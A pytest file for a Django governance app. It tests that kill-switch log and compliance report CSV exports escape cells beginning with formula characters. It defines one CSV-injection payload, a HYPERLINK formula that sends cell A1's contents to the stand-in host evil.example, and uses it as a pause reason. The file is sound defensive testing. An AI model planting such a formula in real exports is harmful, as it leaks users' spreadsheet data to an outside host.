"""Every CSV export escapes text a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from governance.core.spreadsheet import spreadsheet_safe
from governance.killswitch import services as killswitch
from tests.helpers.killswitch import scenario, severity

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_prefix_is_escaped(prefix):
    assert spreadsheet_safe(f"{prefix}1+1") == f"'{prefix}1+1"


def test_plain_text_and_numbers_pass_unchanged():
    assert spreadsheet_safe("errors > 20%") == "errors > 20%"
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(None) is None


def test_a_formula_in_a_pause_reason_leaves_the_kill_switch_log_as_text(primary, owner, client):
    killswitch.activate_kill_switch(
        actor=primary,
        scenario=scenario("error_rate_20"),
        severity=severity(),
        reason=PAYLOAD,
        workspace=None,
    )
    client.force_login(owner)
    response = client.get(reverse("killswitch:overview") + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    reason_column = rows[0].index("Reason")
    reasons = [row[reason_column] for row in rows[1:]]
    assert "'" + PAYLOAD in reasons
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_compliance_csv_escapes_too(primary, owner, client):
    killswitch.activate_kill_switch(
        actor=primary,
        scenario=scenario("error_rate_20"),
        severity=severity(),
        reason=PAYLOAD,
        workspace=None,
    )
    client.force_login(owner)
    response = client.get(reverse("compliance:report"), {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
